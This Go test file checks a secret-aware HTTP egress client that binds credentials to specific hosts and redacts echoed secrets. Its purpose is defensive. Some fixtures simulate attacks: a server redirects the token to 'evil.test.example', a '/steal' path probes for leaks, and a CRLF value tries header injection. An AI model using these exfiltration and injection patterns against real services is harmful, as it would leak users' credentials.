package egress

import (
	"bufio"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// token is a secret value with characters that change under URL, JSON and
// HTML escaping, so each echo encoding is exercised.
const token = `sk-live/9f8e+7d6c<b>&"q"=`

func secretSetup(t *testing.T) (api, other *testServer, res *mapResolver, c *Client) {
	t.Helper()
	api, other, res = localSetup(t)
	apiRule := fmt.Sprintf("http://api.test.example:%d", api.port())
	c = mustClient(t, Policy{
		Allow:        mustRules(t, apiRule, fmt.Sprintf("http://other.test.example:%d", other.port())),
		AllowPrivate: loopback8,
		MaxRequests:  100,
	}, []Secret{
		{Name: "TOKEN", Value: token, Hosts: mustRules(t, apiRule)},
		{Name: "CRLF", Value: "a\r\nInjected: yes", Hosts: mustRules(t, apiRule)},
	}, WithResolver(res))
	return
}

// tokenClient allows api and other and binds TOKEN to api alone.
func tokenClient(t *testing.T, api, other *testServer, res *mapResolver) *Client {
	t.Helper()
	apiRule := fmt.Sprintf("http://api.test.example:%d", api.port())
	return mustClient(t, Policy{
		Allow:        mustRules(t, apiRule, fmt.Sprintf("http://other.test.example:%d", other.port())),
		AllowPrivate: loopback8,
		MaxRequests:  100,
	}, []Secret{{Name: "TOKEN", Value: token, Hosts: mustRules(t, apiRule)}}, WithResolver(res))
}

// assertNoSecret fails if the value appears in any form we promise to catch.
func assertNoSecret(t *testing.T, what string, s string) {
	t.Helper()
	for _, enc := range encodings(token) {
		if strings.Contains(s, enc) {
			t.Fatalf("%s contains the secret (as %q): %s", what, enc, s)
		}
	}
}

func TestSecretSentOnlyToBoundHost(t *testing.T) {
	api, other, _, c := secretSetup(t)

	resp, err := c.Do(context.Background(), Request{
		Method: "POST",
		URL:    apiURL(api, "/echo"),
		Header: http.Header{"Authorization": {"Bearer {{secret.TOKEN}}"}, "X-Plain": {"{{notasecret}}"}},
		Body:   []byte(`{"key":"{{secret.TOKEN}}","again":"{{secret.TOKEN}}"}`),
	})
	if err != nil {
		t.Fatal(err)
	}
	got := api.last(t)
	if got.Header.Get("Authorization") != "Bearer "+token {
		t.Fatalf("server saw Authorization %q", got.Header.Get("Authorization"))
	}
	if got.Body != `{"key":"`+token+`","again":"`+token+`"}` {
		t.Fatalf("server saw body %q", got.Body)
	}
	if got.Header.Get("X-Plain") != "{{notasecret}}" {
		t.Errorf("other braces changed: %q", got.Header.Get("X-Plain"))
	}
	// The echo server returned everything as JSON (Go escapes <, >, &).
	assertNoSecret(t, "response body", string(resp.Body))
	if !strings.Contains(string(resp.Body), "Bearer [redacted:TOKEN]") {
		t.Errorf("no redaction marker in %s", resp.Body)
	}

	// The same request to another allowed host is refused, naming the
	// secret and not its value, before any connection.
	_, err = c.Do(context.Background(), Request{
		URL:    otherURL(other, "/steal"),
		Header: http.Header{"Authorization": {"Bearer {{secret.TOKEN}}"}},
	})
	de := wantDenied(t, err, ReasonSecretNotBound)
	if de.Secret != "TOKEN" || !strings.Contains(err.Error(), "secret TOKEN may not be sent to http://other.test.example") {
		t.Fatalf("error %v (secret %q)", err, de.Secret)
	}
	assertNoSecret(t, "error", err.Error())
	// In the body too.
	_, err = c.Do(context.Background(), Request{Method: "POST", URL: otherURL(other, "/steal"), Body: []byte("{{secret.TOKEN}}")})
	wantDenied(t, err, ReasonSecretNotBound)
	if n := other.accepts(); n != 0 {
		t.Fatalf("other host accepted %d connections", n)
	}

	// Unknown names are refused with the name.
	_, err = c.Do(context.Background(), Request{URL: apiURL(api, "/"), Header: http.Header{"X-Key": {"{{secret.NOPE}}"}}})
	if de := wantDenied(t, err, ReasonUnknownSecret); de.Secret != "NOPE" {
		t.Errorf("secret %q", de.Secret)
	}
}

func TestSecretEchoRedacted(t *testing.T) {
	srv := newTestServer(t, func(w http.ResponseWriter, r *http.Request) {
		v := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		w.Header().Set("X-Echo", v)
		w.Header().Add("Set-Cookie", "s="+url.QueryEscape(v))
		json, _ := json.Marshal(map[string]string{"go": v})
		body := strings.Join([]string{
			"raw: " + v,
			"query: " + url.QueryEscape(v),
			"path: " + url.PathEscape(v),
			"json: " + string(json),
			`json-other: "` + strings.ReplaceAll(strings.ReplaceAll(v, `"`, `\"`), "/", `\/`) + `"`,
			"base64: " + base64.StdEncoding.EncodeToString([]byte(v)),
		}, "\n")
		if strings.Contains(r.Header.Get("Accept-Encoding"), "gzip") && r.URL.Path == "/gzip" {
			w.Header().Set("Content-Encoding", "gzip")
			zw := gzip.NewWriter(w)
			zw.Write([]byte(body))
			zw.Close()
			return
		}
		if r.URL.Path == "/br" {
			w.Header().Set("Content-Encoding", "br")
		}
		w.Write([]byte(body))
	}, false)
	res := newResolver("api.test.example", "127.0.0.1")
	rule := fmt.Sprintf("http://api.test.example:%d", srv.port())
	c := mustClient(t, Policy{Allow: mustRules(t, rule), AllowPrivate: loopback8, MaxRequests: 100},
		[]Secret{{Name: "TOKEN", Value: token, Hosts: mustRules(t, rule)}}, WithResolver(res))
	auth := http.Header{"Authorization": {"Bearer {{secret.TOKEN}}"}}

	for _, path := range []string{"/plain", "/gzip"} {
		resp, err := c.Do(context.Background(), Request{URL: apiURL(srv, path), Header: auth})
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		assertNoSecret(t, path+" body", string(resp.Body))
		for k, vs := range resp.Header {
			assertNoSecret(t, path+" header name", k)
			for _, v := range vs {
				assertNoSecret(t, path+" header "+k, v)
			}
		}
		if resp.Header.Get("X-Echo") != "[redacted:TOKEN]" {
			t.Errorf("%s: X-Echo %q", path, resp.Header.Get("X-Echo"))
		}
		if n := strings.Count(string(resp.Body), "[redacted:TOKEN]"); n != 6 {
			t.Errorf("%s: %d markers in\n%s", path, n, resp.Body)
		}
	}

	// A content encoding the host did not ask for cannot be inspected.
	_, err := c.Do(context.Background(), Request{URL: apiURL(srv, "/br"), Header: auth})
	wantDenied(t, err, ReasonUninspectable)
	// Without a secret in play the response passes through.
	c2 := mustClient(t, Policy{Allow: mustRules(t, rule), AllowPrivate: loopback8}, nil, WithResolver(res))
	if _, err := c2.Do(context.Background(), Request{URL: apiURL(srv, "/br")}); err != nil {
		t.Fatalf("no secret: %v", err)
	}
}

// TestSecretRedirects covers the redirect decision: credentials headers are
// dropped on a cross-origin hop, any other reference to an unbound secret
// refuses the hop, and same-origin hops re-substitute.
func TestSecretRedirects(t *testing.T) {
	other := newTestServer(t, nil, false)
	api := newTestServer(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/to-other":
			http.Redirect(w, r, otherURL(other, "/landed"), http.StatusTemporaryRedirect)
		case "/same":
			http.Redirect(w, r, "/echo", http.StatusFound)
		case "/leak":
			// A server that puts the secret into a redirect to a host that
			// is not allowed: the error must not carry it back.
			http.Redirect(w, r, "http://evil.test.example/?k="+url.QueryEscape(strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")), http.StatusFound)
		default:
			echo(w, r)
		}
	}, false)
	res := newResolver("api.test.example", "127.0.0.1", "other.test.example", "127.0.0.1", "evil.test.example", "127.0.0.1")
	c := tokenClient(t, api, other, res)

	// Same origin: substituted again on the hop.
	resp, err := c.Do(context.Background(), Request{URL: apiURL(api, "/same"), Header: http.Header{"Authorization": {"Bearer {{secret.TOKEN}}"}}})
	if err != nil || resp.Redirects != 1 {
		t.Fatal(err)
	}
	if got := api.last(t); got.Path != "/echo" || got.Header.Get("Authorization") != "Bearer "+token {
		t.Fatalf("same-origin hop saw %q %q", got.Path, got.Header.Get("Authorization"))
	}

	// Cross origin, secret in a non-credential header: hop refused.
	_, err = c.Do(context.Background(), Request{URL: apiURL(api, "/to-other"), Header: http.Header{"X-Api-Key": {"{{secret.TOKEN}}"}}})
	if de := wantDenied(t, err, ReasonSecretNotBound); de.Secret != "TOKEN" {
		t.Fatalf("secret %q", de.Secret)
	}
	// Cross origin, secret in a 307-resent body: hop refused.
	_, err = c.Do(context.Background(), Request{Method: "POST", URL: apiURL(api, "/to-other"), Body: []byte("key={{secret.TOKEN}}")})
	wantDenied(t, err, ReasonSecretNotBound)
	if n := other.accepts(); n != 0 {
		t.Fatalf("other host accepted %d connections", n)
	}

	// Cross origin, secret in Authorization: the header is dropped and the
	// hop goes ahead without it.
	resp, err = c.Do(context.Background(), Request{URL: apiURL(api, "/to-other"), Header: http.Header{"Authorization": {"Bearer {{secret.TOKEN}}"}, "X-Keep": {"1"}}})
	if err != nil {
		t.Fatal(err)
	}
	got := other.last(t)
	if got.Path != "/landed" || got.Header.Get("Authorization") != "" || got.Header.Get("X-Keep") != "1" {
		t.Fatalf("other host saw %+v", got)
	}
	if resp.URL != otherURL(other, "/landed") {
		t.Errorf("URL %q", resp.URL)
	}

	// A secret echoed into a redirect target is not followed there (the
	// target is not bound; it is not even allowed), and does not come back
	// in the error.
	_, err = c.Do(context.Background(), Request{URL: apiURL(api, "/leak"), Header: http.Header{"Authorization": {"Bearer {{secret.TOKEN}}"}}})
	de := wantDenied(t, err, ReasonSecretNotBound)
	assertNoSecret(t, "error", err.Error())
	assertNoSecret(t, "error URL", de.URL)
	if !strings.Contains(err.Error(), "[redacted:TOKEN]") {
		t.Errorf("error %q", err)
	}
}

func TestSecretInvalidInHeader(t *testing.T) {
	api, _, _, c := secretSetup(t)
	_, err := c.Do(context.Background(), Request{URL: apiURL(api, "/"), Header: http.Header{"X-Key": {"{{secret.CRLF}}"}}})
	de := wantDenied(t, err, ReasonInvalidRequest)
	if de.Secret != "CRLF" || strings.Contains(err.Error(), "Injected") {
		t.Fatalf("error %v", err)
	}
	if n := api.accepts(); n != 0 {
		t.Fatalf("accepted %d", n)
	}
	// The same secret is fine in a body.
	if _, err := c.Do(context.Background(), Request{Method: "POST", URL: apiURL(api, "/"), Body: []byte("{{secret.CRLF}}")}); err != nil {
		t.Fatal(err)
	}
}

// TestSecretInNetworkError: a server that answers with a malformed status
// line containing the secret; Go's error quotes that line, and the error
// the tool sees must not.
func TestSecretInNetworkError(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			br := bufio.NewReader(conn)
			req, err := http.ReadRequest(br)
			if err == nil {
				fmt.Fprintf(conn, "HTTP/1.1 %s\r\n\r\n", req.Header.Get("X-Key"))
			}
			conn.Close()
		}
	}()
	port := l.Addr().(*net.TCPAddr).Port
	rule := fmt.Sprintf("http://api.test.example:%d", port)
	c := mustClient(t, Policy{Allow: mustRules(t, rule), AllowPrivate: loopback8},
		[]Secret{{Name: "TOKEN", Value: "plainsecretvalue", Hosts: mustRules(t, rule)}},
		WithResolver(newResolver("api.test.example", "127.0.0.1")))
	_, err = c.Do(context.Background(), Request{URL: rule + "/", Header: http.Header{"X-Key": {"{{secret.TOKEN}}"}}})
	var re *RequestError
	if !errors.As(err, &re) {
		t.Fatalf("got %T %v", err, err)
	}
	if strings.Contains(err.Error(), "plainsecretvalue") || !strings.Contains(err.Error(), "[redacted:TOKEN]") {
		t.Fatalf("error %q", err)
	}
}

func TestTemplates(t *testing.T) {
	ok := map[string][]string{
		"":                              nil,
		"plain {{ braces }} {{secret}}": nil,
		"{{secret.A}}":                  {"A"},
		"x{{secret.A}}y{{secret._b9}}z{{secret.A}}": {"A", "_b9"},
		"{{{secret.A}}}": {"A"},
	}
	for in, want := range ok {
		got, err := templateRefs(in)
		if err != nil || !slices.Equal(got, want) {
			t.Errorf("%q: %v %v", in, got, err)
		}
	}
	for _, in := range []string{"{{secret.", "{{secret.A", "{{secret.A}", "{{secret.}}", "{{secret.1A}}", "{{secret.A B}}", "{{secret.A-B}}", "{{secret." + strings.Repeat("a", 65) + "}}"} {
		if _, err := templateRefs(in); err == nil {
			t.Errorf("%q accepted", in)
		}
	}
	if got := substitute("a{{secret.A}}b{{secret.B}}{{secret.A}}", map[string]string{"A": "1", "B": "{{secret.A}}"}); got != "a1b{{secret.A}}1" {
		t.Errorf("substitute: %q (values must not be re-expanded)", got)
	}
}

func TestRedactorLongestFirst(t *testing.T) {
	r := newRedactor([]Secret{{Name: "SHORT", Value: "abc"}, {Name: "LONG", Value: "abcdef"}})
	if got := r.Replace("abcdef abc"); got != "[redacted:LONG] [redacted:SHORT]" {
		t.Errorf("got %q", got)
	}
}

// TestSecretInQuery: a query-string key is substituted query-escaped, only
// for a bound destination; the tool sees its URL with the template; a
// template anywhere else in the URL is refused; and a server that echoes
// the key into a redirect cannot send it on to a host it is not bound to.
func TestSecretInQuery(t *testing.T) {
	var api *testServer
	other := newTestServer(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/inject" {
			http.Redirect(w, r, apiURL(api, "/stolen")+"?key={{secret.TOKEN}}", http.StatusFound)
			return
		}
		echo(w, r)
	}, false)
	api = newTestServer(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/forward" {
			// Echo the key into a redirect to another allowed host.
			http.Redirect(w, r, otherURL(other, "/landed")+"?key="+url.QueryEscape(r.URL.Query().Get("key")), http.StatusFound)
			return
		}
		echo(w, r)
	}, false)
	res := newResolver("api.test.example", "127.0.0.1", "other.test.example", "127.0.0.1")
	c := tokenClient(t, api, other, res)
	ctx := context.Background()

	u := apiURL(api, "/v1/weather") + "?q=oslo&key={{secret.TOKEN}}"
	resp, err := c.Do(ctx, Request{URL: u})
	if err != nil {
		t.Fatal(err)
	}
	got := api.last(t)
	q, err := url.ParseQuery(got.RawQuery)
	if err != nil || q.Get("key") != token || q.Get("q") != "oslo" {
		t.Fatalf("server saw query %q (%v)", got.RawQuery, err)
	}
	if resp.URL != u {
		t.Errorf("the tool sees URL %q, want the template %q", resp.URL, u)
	}
	assertNoSecret(t, "response body", string(resp.Body))
	assertNoSecret(t, "response URL", resp.URL)

	// Not bound to the other host: refused before any connection.
	_, err = c.Do(ctx, Request{URL: otherURL(other, "/v1") + "?key={{secret.TOKEN}}"})
	if de := wantDenied(t, err, ReasonSecretNotBound); de.Secret != "TOKEN" {
		t.Fatalf("secret %q", de.Secret)
	}
	// Templates in the host, path or fragment, and malformed ones.
	for _, bad := range []string{
		"http://{{secret.TOKEN}}.test.example/",
		apiURL(api, "/{{secret.TOKEN}}/x"),
		apiURL(api, "/x") + "#{{secret.TOKEN}}",
		apiURL(api, "/x") + "?key={{secret.TOKEN",
		apiURL(api, "/x") + "?key={{secret.9bad}}",
		// Only whole values: next to other text the server could decode
		// part of the value (%2 + "4f..." = "$f...") past redaction.
		apiURL(api, "/x") + "?q=%2{{secret.TOKEN}}",
		apiURL(api, "/x") + "?q={{secret.TOKEN}}x",
		apiURL(api, "/x") + "?{{secret.TOKEN}}",
		apiURL(api, "/x") + "?{{secret.TOKEN}}=1",
		apiURL(api, "/x") + "?q={{secret.TOKEN}}{{secret.TOKEN}}",
	} {
		_, err := c.Do(ctx, Request{URL: bad})
		wantDenied(t, err, ReasonInvalidURL)
	}
	// Two parameters, each a whole template, are fine.
	if _, err := c.Do(ctx, Request{URL: apiURL(api, "/two") + "?a={{secret.TOKEN}}&b={{secret.TOKEN}}"}); err != nil {
		t.Fatal(err)
	}
	if q, _ := url.ParseQuery(api.last(t).RawQuery); q.Get("a") != token || q.Get("b") != token {
		t.Fatalf("server saw %q", api.last(t).RawQuery)
	}

	// The bound server echoes the key into a redirect to an allowed but
	// unbound host: the hop is refused, and the error does not carry it.
	_, err = c.Do(ctx, Request{URL: apiURL(api, "/forward") + "?key={{secret.TOKEN}}"})
	de := wantDenied(t, err, ReasonSecretNotBound)
	assertNoSecret(t, "error", err.Error())
	assertNoSecret(t, "error URL", de.URL)
	if n := other.accepts(); n != 0 {
		t.Fatalf("the unbound host accepted %d connections", n)
	}

	// A server that is not bound redirects to the bound host with a
	// template of its own: the host must not fill in a secret the tool
	// never used.
	before := len(api.requests())
	_, err = c.Do(ctx, Request{URL: otherURL(other, "/inject")})
	if de := wantDenied(t, err, ReasonInvalidURL); !strings.Contains(de.Detail, "may not contain secret templates") {
		t.Fatalf("refused for another reason: %v", err)
	}
	if after := len(api.requests()); after != before {
		t.Fatalf("the bound host got %d requests from a server-made template", after-before)
	}
}
